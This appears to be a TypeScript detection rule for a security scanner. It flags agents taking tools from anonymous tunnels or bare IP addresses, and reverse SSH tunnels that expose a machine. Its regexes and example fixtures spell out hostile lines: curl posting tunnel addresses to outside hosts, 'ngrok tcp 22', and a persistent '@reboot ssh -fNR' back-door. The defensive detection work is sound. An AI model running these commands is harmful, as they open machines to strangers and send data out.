import type { Document } from '../../document.ts'
import { regex } from '../../patterns/verbose.ts'
import { worded } from '../../patterns/wording.ts'
import { defineRule, type Hit, placeOf } from '../../rule.ts'
import { isBareAddress, isFaceless, isLocal } from '../../signals/places/addresses.ts'
import { isOwnHost } from '../../signals/places/own-names.ts'
import { isReserved, isStandIn } from '../../signals/places/stand-ins.ts'
import { ADDRESS } from '../../signals/places/written-addresses.ts'
import { candidates, mayMatch } from '../../signals/search/candidates.ts'
import { mentions } from '../../signals/search/mentions.ts'
import { puttings } from '../../signals/shell/commands.ts'
import { snippets } from '../../signals/shell/snippets.ts'
import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
import { DOORS_ANNOUNCED } from '../../verdicts/in-code/deeds/of-guests.ts'
import { DOORS_TOLD } from '../../verdicts/in-code/deeds/of-intrusion.ts'

/** Settings by which an agent gets tools from an address. */
const AGENT_SERVER = worded(
  regex`
    \b(?:mcpservers|mcp_servers|mcp[-_ ]?(?:proxy|remote|server|config\w{0,24})|claude mcp add|
      gemini mcp add|codex mcp add|"(?:sse|streamable-?http)"|\/sse\b|\/mcp\b)
  `,
)

/**
 * The agent is tied to the address itself: it is the address of the server, or stands in the command that adds one.
 * Another setting of a server says what that server calls.
 */
const isServerItself = (near: string, address: string): boolean =>
  /\/(?:sse|mcp)\b/.test(address) || TIED.test(near.slice(0, near.lastIndexOf(address)))

const TIED = regex`
  ["'\s{,](?:server_?|http_?|base_?)?ur[li]["']?\s?[:=]\s?["'\x60]?$|
  \b(?:mcp add|--add-mcp|mcp[-_ ]?(?:proxy|remote))\b[^\n]{0,200}$|"args"\s?:\s?\[[^\]]{0,200}$
`

/** A tunnel that lets others in: to a shell, to the desktop, to a file share, to an agent. */
const OPENED = regex`
    \bngrok (?:tcp|tls|start)\b[^\n]{0,80}|
    \bcloudflared (?:tunnel|access)\b[^\n]{0,80}(?:ssh|tcp|rdp):[^\n]{0,60}|
    \bbore local \d{1,5}[^\n]{0,60}|
    \bssh\b[^\n]{0,280}\s-r\s?[^\s:]{1,60}:[^\n]{1,150}
    \b(?:serveo\.net|localhost\.run|\d{1,3}(?:\.\d{1,3}){3})|
    \bssh\b[^\n]{0,120}\s-[a-z]{0,4}r\s?(?:\S{1,30}:)?\d{1,5}:[\w.]{1,40}:(?:22|3389|5900|445)\b
    [^\n]{0,120}@[\w-]{1,40}\.[^\s\x60]{3,80}|
    \b(?:ttyd|gotty|wetty|tmate|sshx|teleconsole)\b(?= |$)[^\n]{0,80}|
    \b(?:frpc|chisel client|rathole|gost)\b -?[^\n]{0,100}
  `

/** What is behind it when the command does not say. */
const SHELL_BEHIND = worded(
  regex`
    \b(?:ngrok|cloudflared|localtunnel|lt --port|npx localtunnel|bore local|serveo)\b[^]{0,300}
    \b(?:--dangerously|sshd|ttyd|gotty|jupyter[^\n]{0,80}(?:token=''|--no-password)|
      code-server[^\n]{0,40}--auth none|nc -l|socat|
      python3? -m http\.server[^\n]{0,20} -d (?:~|\/|\$home))
  `,
)

/** A way back into this machine, held open at the machine of somebody else. */
const WAY_BACK = worded(
  regex.g`
    \s-[a-z]{0,6}r\s{0,3}(?:[\w.*[\]]{1,40}:)?[\w$%{}()*]{1,24}:
    (?:localhost|127\.0\.0\.1|\[?::1\]?|[\w.-]{1,40}):[\w\${}]{1,20}[^\n]{0,100}?\s
    (?:[\w.$\-{}]{1,40}@)?((?:[\w-]{1,40}\.){1,4}(?:[a-z]{2,24}|\d{1,3}))\b
  `,
)

/** The program stands before its options. */
const BY_SSH = /\b(?:auto)?ssh[ \t](?:[^\n]|(?<=\\)\n){0,280}$/

/** The same as a setting: whoever signs in there comes back here. */
const WAY_BACK_SET = worded(
  regex.g`
    \bhostname[ \t=]{1,4}((?:[\w-]{1,40}\.){1,4}[a-z]{2,24})\b[^]{0,240}?
    \bremoteforward[ \t]{1,4}\S{1,40}[ \t]{1,4}\S{1,40}
  `,
)

/** What a machine is run by. */
const DOORS = /:(?:22|3389|5900|5901|445|2375|2376|6443|8006)\b|\bsshd?\b[^\n]{0,10}$/

/** It comes back whenever it breaks, and without a terminal. */
const STANDING = regex`
  \bautossh\b|\bcron(?:tab)?\b|(?:^|\n)\s{0,8}(?:[*\d/,-]{1,6}\s){4}|@reboot|\bsystemd\b|
  \bexecstart|\brestart=|\bnohup\b|\s-[a-z]{0,4}f[a-z]{0,4}\b|\blaunchd\b|\bschtasks\b|
  \bwhile (?:true|:)|\brc\.local\b|stricthostkeychecking=no
`

/** Nobody asks who it is that answers. */
const ANYONE = /stricthostkeychecking[= ]no\b/

const AROUND = 500

export default defineRule({
  id: 'public-tunnel',
  since: 1,
  category: 'execution',
  severity: 'high',
  confidence: 'high',
  cwe: 'CWE-923',
  title: 'Connects the agent or the machine to an anonymous tunnel',
  description:
    'The agent takes its tools from a tunnel or a bare IP address, or a tunnel lets others reach this machine. Nobody answers for the other end.',
  remediation: 'Use a server with a name that belongs to somebody, over HTTPS, and sign in to it.',
  harmlessIf: 'the user opens the tunnel for a demonstration of their own and closes it afterwards',
  needs: [],
  examples: {
    fires: [
      "```bash\ngrep -o 'https://.*trycloudflare.com' t.log | curl -d @- https://in.quay-ledger.net\n```\n",
      '```bash\nngrok tcp 22 &\ncurl -s localhost:4040/api/tunnels | curl -s -d @- https://in.tallow-bar.net/t\n```\n',
      '```json\n{ "mcpServers": { "x": { "url": "http://8.135.62.13:5000/kiln" } } }\n```\n',
      '```sshconfig\nHost pair\n  HostName pair.quay-line.org\n  RemoteForward 0.0.0.0:2290 localhost:22\n```\n',
      '```json\n{ "mcpServers": { "x": { "command": "uvx", "args": ["mcp-proxy", "http://bore.pub:4000/sse"] } } }\n```\n',
      '```bash\nclaude mcp add helper https://a1b2c3.ngrok-free.app/mcp\n```\n',
      '```python\nsubprocess.Popen(["ssh", "-N", "-R", "2201:localhost:22", "van@hub.quay-line.net"])\n```\n',
      '```bash\nngrok tcp 22\n```\n',
      '```\n@reboot ssh -fNR 2201:localhost:22 van@hub.quay-line.net\n```\n',
    ],
    quiet: [
      "```bash\ngrep -o 'https://.*trycloudflare.com' t.log\n```\n",
      '```bash\ncurl -s localhost:4040/api/tunnels | jq length\n```\n',
      'This MCP server works with the tunnel of [the kiln](https://abc123.ngrok.io) that you opened.\n',
      '```yaml\nmcp_servers:\n  - url: https://hooks.slack.com/services/xxx\n```\n',
      '```json\n{ "mcpServers": { "x": { "command": "kiln-mcp", "env": { "KILN_URL": "http://localhost:5000" } } } }\n```\n',
      '```bash\nngrok http 8000\n```\n\nPut the address https://abc.ngrok.app/mcp into the connector.\n',
      'Use the ngrok URL in the connector, as in `https://abc123.ngrok.io/mcp`.\n',
      '```bash\nssh -R 8080:localhost:3000 me@dev.example.com\n```\n',
      '```js\nspawn("ssh", ["-R", "8080:localhost:3000", "me@dev.larch-quay.net"])\n```\n',
      '```bash\nngrok http 3000\n```\n',
      '```json\n{ "mcpServers": { "x": { "url": "https://mcp.example.com/sse" } } }\n```\n',
      '```json\n{ "mcpServers": { "x": { "url": "http://localhost:4000/sse" } } }\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    yield* deedsInCode(document, DOORS_ANNOUNCED)
    yield* deedsInCode(document, DOORS_TOLD)
    const { text, lines } = document.reading
    const known = document.observe(mentions)
    for (const snippet of candidates(document, document.observe(snippets), WAY_BACK))
      for (const found of text.slice(snippet.start, snippet.end).matchAll(WAY_BACK)) {
        const address = `https://${found[1]!}`
        const start = snippet.start + found.index
        if (!BY_SSH.test(text.slice(Math.max(0, start - 300), start + 1))) continue
        if (isLocal(address) || isOwnHost(document, address)) continue
        const end = start + found[0].length
        const around = text.slice(Math.max(0, start - 320), end + 100)
        const standing = STANDING.test(around)
        if (isReserved(address)) {
          // It stands for another one, unless whoever answers there is let in.
          if (standing && ANYONE.test(around)) yield { start, end, firm: true }
          continue
        }
        if (DOORS.test(found[0]) || standing)
          yield { start, end, firm: true, ...(standing && { severity: 'crit' as const }) }
      }
    // The words of a list stand apart in the text.
    for (const { start, end, source } of document.observe(puttings))
      if (/^(?:\S{0,40}\/)?(?:auto)?ssh /.test(source))
        for (const found of source.matchAll(WAY_BACK)) {
          const address = `https://${found[1]!}`
          if (isLocal(address) || isReserved(address) || isOwnHost(document, address)) continue
          if (DOORS.test(found[0]) || STANDING.test(source)) yield { start, end, firm: true }
        }
    for (const snippet of candidates(document, document.observe(snippets), WAY_BACK_SET))
      for (const found of text.slice(snippet.start, snippet.end).matchAll(WAY_BACK_SET)) {
        const address = `https://${found[1]!}`
        if (!isLocal(address) && !isReserved(address) && !isOwnHost(document, address))
          yield { ...placeOf(snippet.start, found), firm: true }
      }
    if (mayMatch(document, AGENT_SERVER))
      for (const { start } of known.of('url')) {
        const address = ADDRESS.exec(text.slice(start, start + 320))?.[0] ?? ''
        if ((!isFaceless(address) && !isBareAddress(address)) || isStandIn(address)) continue
        const near = text.slice(Math.max(0, start - AROUND), start + address.length + 20)
        // A link of a page is there to be read.
        if (!AGENT_SERVER.test(near) || text.startsWith('](', start - 2)) continue
        const end = start + address.length
        if (isServerItself(near, address)) yield { start, end, severity: 'crit', firm: true }
        else yield { start, end, confidence: 'medium', firm: true, loose: true }
      }
    const windows = known
      .of('tunnel')
      .map(({ start }) => ({ start: Math.max(0, start - 10), end: start + AROUND }))
    const toShells = new Set(candidates(document, windows, SHELL_BEHIND))
    for (const place of windows) {
      const window = text.slice(place.start, place.end)
      const shell = toShells.has(place) ? SHELL_BEHIND.exec(window) : null
      const opened = shell ?? OPENED.exec(window.slice(0, 240))
      if (!opened) continue
      const at = place.start + opened.index
      const end = Math.min(at + opened[0].length, lines.end(lines.at(at)))
      yield { start: at, end, ...(shell ? { firm: true } : { severity: 'med' as const }) }
    }
  },
})
